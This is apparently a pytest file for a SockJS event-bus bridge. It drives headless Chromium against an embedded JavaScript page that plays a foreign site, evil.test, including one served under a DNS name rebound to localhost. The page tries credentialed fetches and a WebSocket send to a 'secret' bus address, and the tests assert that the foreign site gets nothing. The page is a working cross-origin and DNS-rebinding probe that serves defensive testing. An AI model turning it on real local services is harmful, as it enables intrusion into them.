"""A page of another site in a real browser, whose name leads to this machine: it gets nothing from the SockJS bridge.

The browser is told that `evil.test` is 127.0.0.1, as a rebound DNS name is. The page comes from a small server. It
reports to another one, which is also how it is told to begin. The same page under the bridge's own address gets
answers, so an attack that fails has not failed by itself.
"""

import json
import queue
import subprocess
import threading
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any, Final

import pytest
from tests.support.npm import chromium
from tests.support.sockjs import SockJSBus

from hutong.bus.sockjs.handler import Site

pytestmark = [pytest.mark.compat, pytest.mark.timeout(180)]
DEADLINE_S: Final = 90.0
NOTHING: Final = {"info": "", "polled": "", "socket": ""}
PAGE: Final = """<!doctype html><meta charset="utf-8"><title>page</title><script>
const reports = `http://${location.hostname}:REPORTS`;
const told = async (how) => { try { return await how(); } catch (error) { return ''; } };
const text = async (answer) => answer.ok ? await answer.text() : '';
async function attack(bridge) {
  const info = await told(async () => text(await fetch(`${bridge}/info`, {credentials: 'include'})));
  const session = `${bridge}/000/s${Date.now()}/xhr`;
  const polled = await told(async () => text(await fetch(session, {method: 'POST', credentials: 'include'})));
  const socket = await new Promise((done) => {
    const opened = new WebSocket(`${bridge.replace('http', 'ws')}/websocket`);
    opened.onopen = () => opened.send(JSON.stringify({type: 'send', address: 'secret', body: 1, replyAddress: 'r'}));
    opened.onmessage = (event) => done(String(event.data));
    opened.onerror = opened.onclose = () => done('');
  });
  return {info, polled, socket};
}
(async () => {
  await fetch(`${reports}/ready`, {method: 'POST', mode: 'no-cors'});
  const found = {};
  for (const bridge of BRIDGES) found[bridge] = await attack(bridge);
  await fetch(`${reports}/report`, {method: 'POST', mode: 'no-cors', body: JSON.stringify(found)});
})();
</script>"""


class Bridge(SockJSBus):
    """A bridge that lets everything in, were it not for the visitor."""

    def __init__(self, port: int = 0) -> None:
        super().__init__(site=Site(), port=port)
        self.bus.consumer("secret", lambda message: message.reply("told"))


class Pages(ThreadingHTTPServer):
    """Gives one page for every path; each POST is handed to `posted` before it is answered."""

    def __init__(self, page: str = "", posted: Callable[[str, bytes], None] = lambda _path, _body: None) -> None:
        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                self._answer(page.encode())

            def do_POST(self) -> None:
                posted(self.path, self.rfile.read(int(self.headers.get("Content-Length", 0))))
                self._answer(b"")

            def log_message(self, format: str, *args: Any) -> None:
                """Quietly."""

            def _answer(self, body: bytes) -> None:
                self.send_response(200)
                self.send_header("Content-Type", "text/html")
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

        super().__init__(("127.0.0.1", 0), Handler)
        self._thread = threading.Thread(target=self.serve_forever)
        self._thread.start()

    def end(self) -> None:
        self.shutdown()
        self.server_close()
        self._thread.join()


@contextmanager
def browser(folder: Path, url: str) -> Iterator[None]:
    command = [
        chromium(),
        "--headless=new",
        "--no-sandbox",
        "--disable-gpu",
        "--disable-dev-shm-usage",
        "--host-resolver-rules=MAP evil.test 127.0.0.1",
        f"--user-data-dir={folder / 'profile'}",
        url,
    ]
    with subprocess.Popen(command, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL) as process:
        try:
            yield
        finally:
            process.kill()


def found_by(host: str, folder: Path, *, is_rebound: bool) -> list[dict[str, str]]:
    """The answers that the page of `host` gets, from a bridge at its own port or at another one."""
    reported: queue.Queue[dict[str, dict[str, str]]] = queue.Queue()
    bridges: list[Bridge] = [] if is_rebound else [Bridge()]

    def posted(path: str, body: bytes) -> None:
        if path == "/report":
            reported.put(json.loads(body))
        elif is_rebound and not bridges:  # the page is loaded: from here on its name leads to the bridge
            pages.end()
            bridges.append(Bridge(pages.server_port))

    reports = Pages(posted=posted)
    where = "[`${location.origin}/eventbus`]"
    if not is_rebound:
        where = json.dumps([f"http://{name}:{bridges[0].port}/eventbus" for name in (host, "127.0.0.1", "localhost")])
    pages = Pages(PAGE.replace("REPORTS", str(reports.server_port)).replace("BRIDGES", where))
    try:
        with browser(folder, f"http://{host}:{pages.server_port}/"):
            return list(reported.get(timeout=DEADLINE_S).values())
    finally:
        if not is_rebound:
            pages.end()
        reports.end()
        for bridge in bridges:
            bridge.close()


def test_a_page_of_another_site_gets_nothing(tmp_path: Path) -> None:
    assert found_by("evil.test", tmp_path, is_rebound=False) == [NOTHING] * 3


def test_a_page_whose_name_was_rebound_to_the_bridge_gets_nothing(tmp_path: Path) -> None:
    assert found_by("evil.test", tmp_path, is_rebound=True) == [NOTHING]


def test_a_page_at_the_bridges_own_address_gets_answers(tmp_path: Path) -> None:
    (found,) = found_by("127.0.0.1", tmp_path, is_rebound=True)
    assert '"websocket":true' in found["info"].replace(" ", "")
    assert found["polled"].startswith("o")
    assert "told" in found["socket"]
